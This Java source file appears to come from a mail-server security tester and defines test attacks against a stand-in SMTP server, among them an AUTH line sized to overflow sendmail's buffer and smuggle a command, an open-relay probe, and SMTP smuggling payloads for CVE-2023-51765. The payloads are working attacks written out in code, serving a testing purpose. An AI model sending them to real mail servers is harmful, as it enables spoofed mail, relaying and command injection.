package org.smtpward.demo;

import java.util.List;

/** What attackers do with SMTP itself. */
final class SmtpPlays {
    /** A sender that the stand-in wants TLS from, as an access map may. */
    static final String NEEDS_TLS = "needs-tls@client.example";

    /** sendmail's AUTH buffer: what stands behind it is the next command. */
    private static final int AUTH_BUFFER = 12_287;

    private SmtpPlays() {}

    static List<Play> others() {
        return List.of(
                Play.attack(
                        "AUTH line that is too long",
                        "sendmail's line buffer",
                        "AUTH with 12,282 octets behind it, and in the same line a command",
                        (caller, stage) -> {
                            caller.ask("EHLO client.example");
                            caller.attackBegins();
                            String auth = "AUTH ";
                            caller.send(
                                    auth + "x".repeat(AUTH_BUFFER - auth.length()) + Mischief.MAIL + "\r\nQUIT\r\n");
                            caller.readToTheEnd();
                        },
                        Evidence::ran),
                Play.attack(
                        "Mail to somebody elsewhere",
                        "open relay",
                        "a stranger's mail to be relayed; a careless proxy makes him look local",
                        (caller, stage) -> {
                            caller.ask("EHLO client.example");
                            caller.ask("MAIL FROM:<" + MailPlays.SENDER + ">");
                            caller.attackBegins();
                            caller.ask("RCPT TO:<somebody@elsewhere.example>");
                            caller.ask("QUIT");
                        },
                        SmtpPlays::relayed));
    }

    /** These deliver mail to the stand-in whatever happens, so they are not for real servers. */
    static List<Play> smuggling() {
        return List.of(
                smuggling("LF . LF", "\n.\n"),
                smuggling("LF . CRLF", "\n.\r\n"),
                smuggling("CR NUL LF . CRLF", "\r\0\n.\r\n"));
    }

    static Play code403() {
        return new Play(
                Play.Kind.FLAW,
                "Reply code 403",
                "RFC 5321 \u00a74.2.3",
                "MAIL in the clear where the server wants TLS; SMTP knows no code 403",
                (caller, stage) -> {
                    caller.ask("EHLO client.example");
                    caller.attackBegins();
                    caller.ask("MAIL FROM:<" + NEEDS_TLS + ">");
                    caller.ask("QUIT");
                },
                evidence -> {
                    String reply = evidence.toAttack().isEmpty()
                            ? evidence.end()
                            : evidence.toAttack().getFirst();
                    return new Outcome(reply.startsWith("403"), evidence.plain(reply));
                });
    }

    private static Outcome relayed(Evidence evidence) {
        return evidence.toAttack().stream()
                .filter(reply -> reply.startsWith("250"))
                .findFirst()
                .map(reply -> Outcome.worked("relayed: " + evidence.plain(reply)))
                .orElseGet(evidence::refused);
    }

    private static Play smuggling(String end, String octets) {
        return Play.attack(
                "Smuggling by " + end,
                "CVE-2023-51765",
                "DATA; in the text an end that only sendmail takes for one, then a second mail",
                (caller, stage) -> {
                    caller.ask("EHLO client.example");
                    caller.send(MailPlays.envelope(stage) + "DATA\r\n");
                    caller.reply();
                    caller.reply();
                    caller.reply();
                    caller.attackBegins();
                    caller.send("Subject: outer mail\r\n\r\nouter text" + octets + Mischief.transaction(stage)
                            + "QUIT\r\n");
                    caller.readToTheEnd();
                },
                SmtpPlays::smuggled);
    }

    private static Outcome smuggled(Evidence evidence) {
        Outcome ran = evidence.ran();
        return !ran.worked()
                        && evidence.refusal().isEmpty()
                        && evidence.reached().messages().size() == 1
                ? Outcome.failed("1 mail arrived, made harmless")
                : ran;
    }
}
